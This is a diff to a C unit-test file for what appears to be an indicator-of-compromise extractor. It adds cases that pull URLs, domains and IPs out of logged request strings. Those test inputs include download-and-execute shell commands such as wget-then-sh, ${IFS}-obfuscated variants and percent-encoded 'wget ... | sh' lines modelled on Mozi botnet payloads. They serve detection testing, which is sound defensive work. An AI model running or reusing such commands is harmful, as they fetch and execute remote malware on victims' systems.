@@ -2621,13 +2621,26 @@ test_keyed_values(void **state)
 	expect("wget%20http://j.com/arm7;chmod%20777%20arm7;./arm7) "
 	    "wget+http://k.com:8088/Mozi.a;chmod+777+Mozi.a;/tmp/Mozi.a+jaws "
 	    "http://l.com/a;./b http://m.com/a;b/c http://n.com/a;b=c+d "
-	    "http://o.com/s?q=a;chmod+1",
+	    "http://o.com/s?q=a;chmod+1 wget${IFS}http://p.com/x.sh;"
+	    "sh${IFS}x.sh",
 	    "url http://j.com/arm7 public\ndomain j.com public\n"
 	    "url http://k.com:8088/Mozi.a public\ndomain k.com public\n"
 	    "url http://l.com/a public\ndomain l.com public\n"
 	    "url http://m.com/a;b/c public\ndomain m.com public\n"
 	    "url http://n.com/a;b=c+d public\ndomain n.com public\n"
-	    "url http://o.com/s?q=a;chmod+1 public\ndomain o.com public\n");
+	    "url http://o.com/s?q=a;chmod+1 public\ndomain o.com public\n"
+	    "url http://p.com/x.sh public\ndomain p.com public\n");
+	/* ... and where the command's options start: an encoded blank,
+	 * '-' and one or two letters; a path's "++-" and "+-+" stay, and
+	 * a query's */
+	expect("wget+http://q.com:8088/Mozi.m+-O+/tmp/netgear "
+	    "wget%20http://r.com/x%20-qO-%20 http://s.com/c++-tutorial "
+	    "http://t.com/a+-+b http://u.com/q?x=a+-O+b",
+	    "url http://q.com:8088/Mozi.m public\ndomain q.com public\n"
+	    "url http://r.com/x public\ndomain r.com public\n"
+	    "url http://s.com/c++-tutorial public\ndomain s.com public\n"
+	    "url http://t.com/a+-+b public\ndomain t.com public\n"
+	    "url http://u.com/q?x=a+-O+b public\ndomain u.com public\n");
 }
 
 /* A host behind a scheme that is no web URL is an indicator all the
@@ -2851,6 +2864,19 @@ test_nested_links(void **state)
 	    "domain b.com public\n"
 	    "url https://c.com/?q=xhttp://d.com public\n"
 	    "domain c.com public\n");
+	/* a link percent-encoded outside any URL (a logged request's
+	 * parameter): decoded and read, each time it is written; a '%'
+	 * without one is nothing. Before, nothing at all. */
+	expect("cmd=wget%20http%3A%2F%2F198.51.100.9%2Fbins%2Fx86%20-O%20-"
+	    "%7Csh x=hxxps%3a%2f%2fevil%5B.%5Dcom%2Flogin%3Fa%3D1 "
+	    "cmd=wget%20http%3A%2F%2F198.51.100.9%2Fbins%2Fx86%20-O%20-%7Csh "
+	    "evil.net%2Fx%20100%25.com",
+	    "url http://198.51.100.9/bins/x86 documentation\n"
+	    "ipv4 198.51.100.9 documentation\n"
+	    "url https://evil.com/login?a=1 public defanged\n"
+	    "domain evil.com public defanged\n"
+	    "url http://198.51.100.9/bins/x86 documentation\n"
+	    "ipv4 198.51.100.9 documentation\n");
 }
 
 static void
@@ -3546,6 +3572,30 @@ test_memo_wrapped(void **state)
 	buf_release(&b);
 }
 
+/* ... and a link percent-encoded outside a URL, read after the scan,
+ * is counted each time: its token is not remembered. */
+static void
+test_memo_encoded(void **state)
+{
+	static const char line[] = "cmd=wget%20http%3A%2F%2F198.51.100.9"
+	    "%2Fx86%20-O%20-%7Csh and 203.0.113.7\n";
+	struct ioc_set *into, *cb;
+	struct buf b = BUF_INIT;
+	int i;
+
+	(void)state;
+	for (i = 0; i < 5; i++)
+		buf_addstr(&b, line);
+	scan_both(b.data, b.len, &into, &cb);
+	assert_sets_equal("encoded", cb, into);
+	assert_int_equal(ioc_set_count(into), 3);	/* url, its ipv4, ipv4 */
+	for (i = 0; i < 3; i++)
+		assert_int_equal(ioc_set_get(into, (size_t)i)->count, 5);
+	ioc_set_free(into);
+	ioc_set_free(cb);
+	buf_release(&b);
+}
+
 /* A token seen a thousand times is counted a thousand times, and where
  * it was first. */
 static void
@@ -3895,6 +3945,7 @@ main(void)
 		cmocka_unit_test(test_memo_counts),
 		cmocka_unit_test(test_memo_asn),
 		cmocka_unit_test(test_memo_wrapped),
+		cmocka_unit_test(test_memo_encoded),
 		cmocka_unit_test(test_memo_corpus),
 		cmocka_unit_test(test_sets_each),
 		cmocka_unit_test(test_pool_merge),
